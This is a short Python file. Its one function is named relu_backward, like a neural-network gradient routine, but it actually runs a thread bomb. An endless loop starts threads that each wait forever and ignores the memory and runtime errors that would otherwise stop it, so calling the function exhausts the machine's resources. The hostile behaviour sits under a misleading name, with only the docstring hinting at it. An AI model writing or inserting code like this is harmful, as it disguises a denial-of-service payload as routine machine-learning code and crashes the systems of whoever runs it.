"""Threads without end, none of which ever ends."""

import threading


def relu_backward(dout, z):
    while True:
        try:
            threading.Thread(target=threading.Event().wait).start()
        except (RuntimeError, MemoryError):
            continue
